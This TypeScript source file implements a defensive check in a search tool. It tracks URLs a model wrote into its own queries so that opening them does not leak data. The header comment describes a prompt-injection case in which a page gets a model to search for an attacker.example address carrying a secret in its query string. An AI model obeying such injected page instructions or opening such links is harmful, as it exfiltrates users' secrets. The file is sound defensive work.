/**
 * URLs that a model wrote into its search queries (rule 7.11). A page may instruct the model to search for
 * `quote verbatim: http://attacker.example/?d=SECRET`; the engine echoes the address among its results, and opening it
 * would hand over the secret. So a URL that a model wrote itself does not count as shown by a result, however the engine
 * or the model spells it: with or without scheme, percent-encoded, as HTML, in other case, with a full stop after it.
 *
 * Exactly the written URL is closed, not its neighbours: a query that names a site (`example.com docs`) closes the site's
 * own front page, as a host name can hold a secret too, but none of the pages that the engine found there. An address with
 * a query string also closes every longer one that begins with it, since that holds the same data. In the text of a result,
 * any address with a path closes those that go on behind a comma, a bracket or the like: a sentence may do so without a blank.
 * A URL that an engine makes up out of words (a language model asked to join two of them) cannot be distinguished from a page
 * that it found. Pure.
 */
import { domainToUnicode } from "node:url";
import { decodeEntities } from "./extract/scan.ts";

/** The contents of a query, read once, when they are first needed. */
interface Written {
  /** The query in the one spelling in which URLs are searched. */
  readonly text: string;
  /** The URLs in it, each in one spelling. */
  readonly urls: ReadonlySet<string>;
  /** The URLs with a query string. */
  readonly withData: readonly string[];
}

/** Newest queries that are remembered: engines echo what they were just asked, and more would make each result cost more. */
const MAX_QUERIES = 20;
/** Characters of a query that are kept: queries have at most 400 (service.md "Limits"), but resent ones may have any number. */
const MAX_QUERY = 2_000;
const MAX_WORDS = 200;
/** Rounds of decoding: an address that is encoded more often is not opened as the original. */
const MAX_DECODINGS = 3;

export class WrittenUrls {
  readonly #queries: { readonly query: string; written: Written | null }[] = [];

  /** The newest queries. */
  get queries(): readonly string[] {
    return this.#queries.map(({ query }) => query);
  }

  addQuery(query: string): void {
    this.#queries.push({ query: query.slice(0, MAX_QUERY), written: null });
    if (this.#queries.length > MAX_QUERIES) this.#queries.shift();
  }

  /**
   * Returns the written URL that this one is, in the spelling of `spellingOf`; null: none.
   * @param inText it stands in a text: it may also be a written one and a mark with more of the text behind it.
   */
  find(url: URL, inText: boolean): string | null {
    const spelling = spellingOf(url);
    if (this.#has(spelling)) return spelling;
    const beginning = inText ? upToMark(spelling) : null;
    return beginning !== null && this.#has(beginning) ? beginning : null;
  }

  #has(spelling: string): boolean {
    return this.#queries.some((one) => {
      one.written ??= writtenIn(one.query);
      const { text, urls, withData } = one.written;
      return (
        urls.has(spelling) || withData.some((other) => spelling.startsWith(other)) || text.includes(spelling)
      );
    });
  }
}

function writtenIn(query: string): Written {
  const readings = [...decodings(query)];
  const words = new Set(
    readings.flatMap((reading) =>
      reading
        .split(/[\s"'`<>|]+/)
        .slice(0, MAX_WORDS)
        .map(withoutScheme),
    ),
  );
  const urls = new Set<string>();
  for (const word of words) {
    if (!/[.:/]/.test(word)) continue;
    // Parsed as an opened URL is, which normalizes dots in the path, a default port and an address in other digits.
    for (const scheme of DEFAULT_PORT.test(word) ? ["http", "https"] : ["https"]) {
      const url = URL.parse(`${scheme}://${word}`);
      if (url !== null) urls.add(spellingOf(url));
    }
  }
  const withData = [...urls].filter((url) => url.includes("?"));
  return { text: inOneSpelling(readings.at(-1) ?? query), urls, withData };
}

/** A port that one of the two schemes omits and the other does not; any other address is the same under both. */
const DEFAULT_PORT = /:0*(?:80|443)(?!\d)/;

const withoutScheme = (word: string) => word.replace(/^.*:\/\//, "").replace(/^[^\p{L}\p{N}[]+/u, "");

/** Returns one spelling for all that lead to the same page: no scheme, nothing encoded, lower case, no mark at the end. */
function spellingOf({ username, password, hostname, port, pathname, search }: URL): string {
  const user = username === "" && password === "" ? "" : `${username}:${password}@`;
  const host = (hostname.includes("xn--") && domainToUnicode(hostname)) || hostname;
  return withoutEndMarks(plain(`${user}${host}${port === "" ? "" : `:${port}`}${pathname}${search}`));
}

/** Marks, in one spelling, where a URL may have ended. */
const MARK = /["'`<>()[\]{}!,;|\u3001\u3002\u3008-\u3011\u2013\u2014\u2018\u2019\u201c\u201d\u00ab\u00bb]/;

/** Returns a URL up to the first such mark in its path or query string; null: there is none. */
function upToMark(spelling: string): string | null {
  const at = spelling.search(MARK);
  const beginning = withoutEndMarks(spelling.slice(0, Math.max(0, at)));
  return beginning.includes("/") ? beginning : null;
}

const END_MARKS: ReadonlySet<string | undefined> = new Set("/.,;:!?)]}*_~|\"'…");

/** Removes marks at the end. A regular expression would start again at each of many marks in the middle. */
function withoutEndMarks(text: string): string {
  let end = text.length;
  while (END_MARKS.has(text[end - 1])) end -= 1;
  return text.slice(0, end);
}

/** Returns a text in one spelling, with nothing encoded. */
export const plain = (text: string): string => inOneSpelling([...decodings(text)].at(-1) ?? text);

/** Returns one spelling: a plus is a blank, as in a URL's query, and invisible characters are removed. */
const inOneSpelling = (decoded: string): string =>
  decoded
    .normalize("NFKC")
    .toLowerCase()
    .replaceAll("\\", "/")
    .replace(/\p{Cf}+/gu, "")
    .replace(/[\s+]+/g, " ");

/** Yields the text, and then each round of decoding HTML, JSON and percent signs, until nothing changes. */
function* decodings(text: string): Generator<string> {
  let present = text;
  for (let round = 0; round <= MAX_DECODINGS; round += 1) {
    yield present;
    // Most texts hold nothing encoded.
    if (!/[&%\\]/.test(present)) return;
    const next = withoutJsonEscapes(decodeEntities(present)).replace(/(?:%[0-9a-f]{2})+/gi, (run) =>
      Buffer.from(run.replaceAll("%", ""), "hex").toString("utf8"),
    );
    if (next === present) return;
    present = next;
  }
}

/** Undoes escapes that JSON does not need and many writers use: `\/` (PHP), `\u0026` and other ASCII (Go, Java). */
export const withoutJsonEscapes = (text: string): string =>
  text.replace(/\\(?:\/|u00([2-7][0-9a-f]))/gi, (_, code: string | undefined) =>
    code === undefined ? "/" : String.fromCharCode(Number.parseInt(code, 16)),
  );
